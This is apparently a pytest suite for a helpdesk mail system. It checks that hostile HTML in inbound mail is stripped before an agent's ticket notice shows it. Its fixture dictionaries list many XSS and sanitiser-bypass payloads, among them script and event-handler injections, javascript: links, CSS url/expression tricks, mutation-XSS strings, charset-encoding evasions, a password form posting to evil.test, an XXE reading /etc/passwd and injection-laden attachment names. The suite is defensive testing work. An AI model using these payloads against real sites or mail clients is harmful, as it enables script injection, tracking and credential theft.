"""Hostile HTML, as a mail brings it and as an agent's notice shows it: nothing runs, nothing loads, the words stay."""

import base64
import re
from collections import Counter
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import pytest

from mailtickets.config.places import shipped, template_texts
from mailtickets.desk.letters.render import render
from mailtickets.desk.letters.samples import sample
from mailtickets.desk.letters.sandbox import Templates
from mailtickets.mail.model import InboundMail
from mailtickets.mail.read.parse import parse
from mailtickets.mail.reply.excerpt import excerpt
from mailtickets.mail.reply.html import render as as_text
from mailtickets.mail.reply.sanitise import sanitised

TEMPLATES = Templates(template_texts(shipped("templates")))
FIRST, LAST = "The till says", "error seven"

TRAPS = {
    # scripts
    "script": "<script>alert(1)</script>",
    "script-mixed-case": "<ScRiPt SRC=//evil.test/a.js></sCrIpT>",
    "script-slash-for-space": "<script/src=https://evil.test/a.js></script>",
    "script-in-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-nul-in-name": "<scr\0ipt>alert(1)</scr\0ipt>",
    "script-doubled-bracket": "<<script>alert(1);//<</script>",
    "script-of-vbscript": "<script language=vbscript>MsgBox 1</script>",
    "script-in-full-width-letters": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # event handlers
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror-slashes": "<img/src=cid:a/onerror=alert(1)>",
    "onerror-mixed-case": "<IMG SRC='cid:a' oNeRrOr=alert(1)>",
    "onerror-entity": "<img src=x onerror='&#97;lert(1)'>",
    "onerror-form-feed": "<img src=x\x0conerror=alert(1)>",
    "onerror-nul": "<img src=x on\0error=alert(1)>",
    "onclick": "<p onclick=alert(1)>x</p>",
    "ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "onfocus-autofocus": "<input autofocus onfocus=alert(1)>",
    "onpointerenter": '<b style="font-size:90px" onpointerenter="alert(1)">x</b>',
    "body-onload": "<body onload=alert(1) onpageshow=alert(2)>",
    "attribute-out-of-attribute": """<p title='"><img src=x onerror=alert(1)>'>x</p>""",
    "attribute-in-backquotes": "<img alt=`><img src=x onerror=alert(1)>`>",
    # links
    "javascript": "<a href=javascript:alert(1)>x</a>",
    "javascript-mixed-case": "<a href=JaVaScRiPt:alert(1)>x</a>",
    "javascript-entities": "<a href='&#106;&#x61;vascript&colon;alert(1)'>x</a>",
    "javascript-tab": "<a href='java\tscript:alert(1)'>x</a>",
    "javascript-entity-for-line-break": "<a href='java&#10;script&#58;alert(1)'>x</a>",
    "javascript-nul": "<a href='java\0script:alert(1)'>x</a>",
    "javascript-leading-controls": "<a href='&#1;&#31; javascript:alert(1)'>x</a>",
    "javascript-after-relative": "<a href='/javascript:alert(1)'>x</a>",
    "vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "data": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "blob": "<a href=blob:https://evil.test/1>x</a>",
    "file": r"<a href='file://evil.test/share/a.exe'>x</a>",
    "unc-path": r"<a href='\\evil.test\share\a'>x</a>",
    "without-scheme": "<a href=//evil.test/login>x</a>",
    "ping": "<a href=https://ok.test/ ping=https://evil.test/seen target=_parent download>x</a>",
    "image-map": "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=cid:a ismap>",
    "cite": "<q cite=javascript:alert(1)>x</q><blockquote cite=https://evil.test/>y</blockquote>",
    # images and other things that load
    "tracking-pixel": "<img src=https://evil.test/open.gif?who=ana width=1 height=1 style='display:none'>",
    "image-without-scheme": "<img src=//evil.test/a.png>",
    "image-data-svg": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "image-javascript": "<img src=javascript:alert(1) lowsrc=javascript:alert(2) dynsrc=javascript:alert(3)>",
    "image-cid-in-the-middle": "<img src='https://evil.test/?cid:a'>",
    "image-old-name": "<image src=https://evil.test/a.png onerror=alert(1)>",
    "srcset": "<img src=cid:a srcset='https://evil.test/a.png 1x, https://evil.test/b.png 2x' loading=eager>",
    "picture-source": "<picture><source srcset=https://evil.test/a.webp><img src=cid:a></picture>",
    "longdesc": "<img src=cid:a longdesc=https://evil.test/ crossorigin=use-credentials>",
    "background-attribute": "<table background=https://evil.test/a.png><tr><td background=//evil.test/b>x</table>",
    "body-background": "<body background=https://evil.test/a.png bgcolor=red>",
    "video": "<video poster=https://evil.test/a.png autoplay><source src=https://evil.test/a.mp4></video>",
    "audio": "<audio src=https://evil.test/a.mp3 autoplay onplay=alert(1)></audio>",
    "track": "<track src=https://evil.test/a.vtt default>",
    "input-image": "<input type=image src=https://evil.test/a.png formaction=javascript:alert(1)>",
    "bgsound": "<bgsound src=https://evil.test/a.wav>",
    "link-stylesheet": "<link rel=stylesheet href=https://evil.test/a.css>",
    "link-prefetch": "<link rel='dns-prefetch preconnect' href=//ana.evil.test>",
    "link-import": "<link rel=import href=https://evil.test/a.html>",
    # styles
    "style-import": "<style>@import 'https://evil.test/a.css';</style>",
    "style-font": "<style>@font-face{font-family:f;src:url(https://evil.test/f.woff)}p{font-family:f}</style>",
    "style-attribute-url": "<p style='background:url(https://evil.test/a.png)'>x</p>",
    "style-url-in-colour": "<p style='background-color:url(https://evil.test/a.png)'>x</p>",
    "style-url-in-list": "<ul><li style='list-style-type:url(//evil.test/a)'>x</ul>",
    "style-list-image": "<ul style='list-style-image:url(//evil.test/a);list-style:url(//evil.test/b)'><li>x</ul>",
    "style-url-escaped": r"<p style='border:\75\72\6c (https://evil.test/a.png)'>x</p>",
    "style-url-entities": "<p style='border:&#117;rl&lpar;https://evil.test/a.png&rpar;'>x</p>",
    "style-image-set": "<p style='background-color:image-set(\"https://evil.test/a.png\" 1x)'>x</p>",
    "style-variable": "<p style='--a:url(//evil.test/a);color:var(--a, url(//evil.test/b))'>x</p>",
    "style-bracket-escaped": r"<p style='color:url\28//evil.test/a\29;font-family:\"\65xpression\28 1)\"'>x</p>",
    "style-bracket-after-colour": "<p style='color:rgb(url(//a));border:rgb(0,0,0) url(//evil.test/b)'>x</p>",
    "style-cut-in-a-string": "<p style='font-family:\";x(;border:\";color:red;border:url(//evil.test/a)'>x</p>",
    "style-expression": "<p style='width:expression(alert(1))'>x</p>",
    "style-expression-commented": "<p style='color:exp/**/ression/**/(alert(1))'>x</p>",
    "style-expression-escaped": r"<p style='width:\65xpression(alert(1))'>x</p>",
    "style-behaviour": "<p style='behavior:url(#default#time2);-moz-binding:url(//evil.test/a.xml#b)'>x</p>",
    "style-fixed-over-everything": "<div style='position:fixed;inset:0;z-index:9;opacity:0'>x</div>",
    "style-content": "<p style='content:url(//evil.test/a);cursor:url(//evil.test/b),auto;filter:url(#c)'>x</p>",
    # documents and forms
    "meta-refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "meta-cookie": "<meta http-equiv=Set-Cookie content='a=b'>",
    "base": "<base href=https://evil.test/ target=_top><a href=login>x</a>",
    "form": "<form action=https://evil.test/ method=post><input name=password type=password><button>Go</button></form>",
    "button-formaction": "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "isindex": "<isindex type=image src=https://evil.test/ action=javascript:alert(1)>",
    "iframe": "<iframe src=https://evil.test/></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "frameset": "<frameset><frame src=javascript:alert(1)></frameset>",
    "object": "<object data=https://evil.test/a.swf><param name=movie value=javascript:alert(1)></object>",
    "embed": "<embed src=https://evil.test/a.swf allowscriptaccess=always>",
    "applet": "<applet code=Evil codebase=https://evil.test/></applet>",
    "portal": "<portal src=https://evil.test/ onload=alert(1)></portal>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "dialog": "<dialog open onclose=alert(1)>x</dialog>",
    "custom-element": "<x-evil onclick=alert(1) is=script src=https://evil.test/>x</x-evil>",
    "slot": "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    # SVG and MathML
    "svg-onload": "<svg onload=alert(1)></svg>",
    "svg-script": "<svg><script href=data:,alert(1) /></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg-image": "<svg><image xlink:href=https://evil.test/a.png /></svg>",
    "svg-foreign-object": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "svg-with-prefix": "<svg:svg xmlns:svg='http://www.w3.org/2000/svg'><svg:script>alert(1)</svg:script></svg:svg>",
    "math-link": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "math-annotation": "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    # what changes its meaning when it is parsed a second time
    "twice-noscript": """<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>""",
    "twice-template": """<template><p title="</template><img src=x onerror=alert(1)>"></template>""",
    "twice-textarea": """<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>""",
    "twice-xmp": """<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>""",
    "twice-noembed": """<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>""",
    "twice-svg-style": """<svg></p><style><a title="</style><img src=x onerror=alert(1)>"></style></svg>""",
    "twice-math-style": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>"
    "</mglyph></table></mtext></math>",
    "twice-form-math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>"
    "</mglyph></form></mtext></math>",
    "twice-select": "<select><option><style></select><img src=x onerror=alert(1)></style></option></select>",
    "twice-table": "<table><td><a href=https://ok.test/><table><script>alert(1)</script></table></a></td></table>",
    # comments and what looks like them
    "comment-early-end": "<!--><img src=x onerror=alert(1)>-->",
    "comment-bang-end": "<!-- --!><img src=x onerror=alert(1)>-->",
    "comment-nested": "<!-- <!-- --><script>alert(1)</script> -->",
    "comment-conditional": "<!--[if gte mso 9]><img src=https://evil.test/a.png><script>alert(1)</script><![endif]-->",
    "comment-conditional-revealed": "<![if !mso]><img src=https://evil.test/a.png><![endif]>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "cdata-in-svg": "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "processing-instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "xml-namespace": "<html xmlns:t='urn:schemas-microsoft-com:time'><?import namespace=t implementation='#x'>"
    "<t:set attributeName=innerHTML to='&lt;img src=x onerror=alert(1)&gt;'></html>",
    "entity-declaration": "<!DOCTYPE html [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    # names that hide those of the page around
    "clobbering-id": "<p id=body>x</p><a id=attributes href=https://ok.test/>y</a>",
    "clobbering-name": "<img name=cookie src=cid:a><a name=getElementById>x</a>",
    "clobbering-form": "<form id=document><input name=attributes><input name=parentNode></form>",
}

UNCLOSED = {
    "comment": "<!-- <img src=https://evil.test/a.png>",
    "script": "<script>alert(1)",
    "style": "<style>@import 'https://evil.test/a.css'",
    "title": "<title><img src=x onerror=alert(1)>",
    "textarea": "<textarea><img src=x onerror=alert(1)>",
    "iframe": "<iframe src=https://evil.test/>",
    "svg": "<svg><desc><img src=x onerror=alert(1)>",
    "template": "<template><img src=x onerror=alert(1)>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "tag": "<img src=x onerror=alert(1) ",
    "attribute": "<img src='https://evil.test/?",
    "form": "<form action=https://evil.test/><select><option>",
    "svg-after-xmp": """<xmp><p title="</xmp><svg onload=alert(1)>"></xmp>""",
}

CHARSETS = {
    "utf-7": ("utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "utf-7-in-another": ("utf-8", b"<meta charset=utf-7>+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-"),
    "utf-16": ("utf-16", "<img src=x onerror=alert(1)>".encode("utf-16")),
    "overlong-utf-8": ("utf-8", b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe"),
    "high-bit-ascii": ("us-ascii", b"\xbcscript\xbealert(1)\xbc/script\xbe"),
    "half-a-character": ("gb18030", b'<img alt="\x81" src=x onerror=alert(1)//">'),
    "iso-2022-jp": ("iso-2022-jp", b'<p title="\x1b$B"><img src=x onerror=alert(1)>\x1b(B">x</p>'),
    "unknown": ("x-evil", b"<script>alert(1)</script>"),
}

FILE_NAMES = {
    "element": "<img src=x onerror=alert(1)>.pdf",
    "end-of-attribute": '" onmouseover="alert(1)" x=\'.pdf',
    "end-of-cell": "</td></tr></table><iframe srcdoc=x>.pdf",
    "entities": "&lt;script&gt;alert(1)&lt;&#x2f;script&gt;.pdf",
    "template": "{{ ref }}{% include 'layout.txt' %}.pdf",
    "comment": "<!--.pdf",
}

FORBIDDEN = {
    "applet", "area", "audio", "base", "bgsound", "body", "button", "embed", "form", "frame", "frameset", "head",
    "html", "iframe", "image", "input", "link", "map", "marquee", "math", "meta", "noembed", "noscript", "object",
    "option", "param", "picture", "plaintext", "portal", "script", "select", "source", "style", "svg", "template",
    "textarea", "title", "track", "video", "xmp",
}  # fmt: skip
PLAIN_ATTRIBUTES = {
    "align", "alt", "bgcolor", "border", "cellpadding", "cellspacing", "class", "colspan", "height", "href", "rel",
    "src", "style", "title", "width",
}  # fmt: skip


class Shown(HTMLParser):
    """What a browser would find: elements, attributes and words."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attributes: list[tuple[str, str]] = []
        self.hidden: list[str] = []
        self.data: list[str] = []
        self.steps: list[object] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes += [(name, value or "") for name, value in attrs]
        self.steps.append((tag, {name: value for name, value in attrs if value}))

    def handle_endtag(self, tag: str) -> None:
        self.steps.append(f"/{tag}")

    def handle_data(self, data: str) -> None:
        self.data.append(data)
        self.steps.append(data)

    def handle_comment(self, data: str) -> None:
        self.hidden.append(data)

    def handle_decl(self, decl: str) -> None:
        self.hidden.append(decl)

    handle_pi = unknown_decl = handle_comment

    @property
    def words(self) -> str:
        return " ".join("".join(self.data).split())

    @property
    def forbidden(self) -> Counter[str]:
        return Counter({tag: number for tag, number in self.tags.items() if tag in FORBIDDEN or not tag.isalnum()})


def mail_with(html: bytes, charset: str = "utf-8") -> InboundMail:
    head = "From: Mary <mary@customer.test>\nTo: support@desk.test\nSubject: Till\nMIME-Version: 1.0\n"
    head += f"Content-Type: text/html; charset={charset}\nContent-Transfer-Encoding: base64\n\n"
    mail = parse(head.encode() + base64.encodebytes(html))
    assert "unparsed" not in mail.defects
    return mail


def notice_of(html: str | None, **message: Any) -> str:
    """The HTML that an agent gets when the mail opens a ticket."""
    context = sample("new_ticket", "en")
    text = as_text(html).text if html else ""  # a notice shows of the HTML what says its text
    context["message"] = {**context["message"], "html": html, "text": text, **message}
    rendered = render(TEMPLATES, "new_ticket", "en", context)
    assert rendered.problems == ()
    return rendered.html or ""


def assert_attributes_harmless(attributes: list[tuple[str, str]]) -> None:
    for name, value in attributes:
        assert name in PLAIN_ATTRIBUTES, name
        assert name != "src" or value.startswith("cid:"), value
        assert name != "href" or re.match(r"(?:https?://|mailto:|tel:)", value), value
        assert name != "style" or not re.search(r"[\\@]|(?<!rgb)\(|expression|behavior|binding|position", value), value


def assert_harmless(mail: InboundMail) -> None:
    """Both as it was read and in the notice around it, which has no more elements of the kind than any notice has."""
    shown = Shown(mail.html or "")
    assert not shown.forbidden
    assert not shown.hidden
    assert_attributes_harmless(shown.attributes)
    assert Shown(sanitised(mail.html or "") or "").steps == shown.steps, "another reading makes something else of it"
    notice, ordinary = notice_of(mail.html, text=mail.text), notice_of("<p>x</p>")
    assert (excerpt(mail.html or "", mail.text) or "").strip() in notice  # of the HTML what says the text
    assert Shown(notice).forbidden == Shown(ordinary).forbidden
    assert len(Shown(notice).hidden) == len(Shown(ordinary).hidden) == 1, "the doctype"
    surroundings = Counter(Shown(ordinary).attributes)
    assert_attributes_harmless(list((Counter(Shown(notice).attributes) - surroundings).elements()))


def test_there_are_at_least_sixty_traps() -> None:
    assert len(set(TRAPS.values()) | set(UNCLOSED.values())) >= 60


@pytest.mark.parametrize("trap", TRAPS.values(), ids=TRAPS.keys())
def test_hostile_html_neither_runs_nor_loads_and_the_words_around_it_stay(trap: str) -> None:
    mail = mail_with(f"<p>{FIRST}</p>{trap}<p>{LAST}</p>".encode())
    assert_harmless(mail)
    for seen in (Shown(mail.html or "").words, Shown(notice_of(mail.html)).words, mail.text):
        assert FIRST in seen
        assert LAST in seen


@pytest.mark.parametrize("trap", UNCLOSED.values(), ids=UNCLOSED.keys())
def test_what_is_never_closed_does_not_reach_into_the_notice(trap: str) -> None:
    mail = mail_with(f"<p>{FIRST}</p>{trap}".encode())
    assert_harmless(mail)
    notice = Shown(notice_of(mail.html)).words
    assert FIRST in Shown(mail.html or "").words
    assert notice.index(FIRST) < notice.index("printer display.jpg")


@pytest.mark.parametrize(("charset", "trap"), CHARSETS.values(), ids=CHARSETS.keys())
def test_no_character_set_hides_an_element(charset: str, trap: bytes) -> None:
    assert_harmless(mail_with(trap, charset))


def test_images_of_the_mail_itself_links_and_colours_are_kept() -> None:
    kept = (
        '<p style="color:rgb(1, 2, 3)">x</p><img src="cid:a@b.test" alt="a">'
        '<a href="https://ok.test/" rel="noopener noreferrer nofollow">b</a>'
        '<a href="mailto:a@ok.test" rel="noopener noreferrer nofollow">c</a>'
        '<a href="tel:+5511" rel="noopener noreferrer nofollow">d</a>'
    )
    mail = mail_with(kept.encode())
    assert mail.html == kept
    assert_harmless(mail)


@pytest.mark.parametrize("name", FILE_NAMES.values(), ids=FILE_NAMES.keys())
def test_the_name_of_an_attachment_is_only_ever_words(name: str) -> None:
    raw = (
        "From: mary@customer.test\nSubject: Till\nMIME-Version: 1.0\nContent-Type: application/pdf\n"
        f"Content-Disposition: attachment; filename*=utf-8''{quote(name, safe='')}\n\nx\n"
    )
    (attachment,) = parse(raw.encode()).attachments
    assert attachment.filename.endswith("pdf")
    seen = Shown(notice_of("<p>x</p>", attachments=[{"filename": attachment.filename, "size": 1, "attached": True}]))
    ordinary = Shown(notice_of("<p>x</p>", attachments=[{"filename": "a.pdf", "size": 1, "attached": True}]))
    assert seen.tags == ordinary.tags
    assert seen.attributes == ordinary.attributes
    assert attachment.filename in seen.words
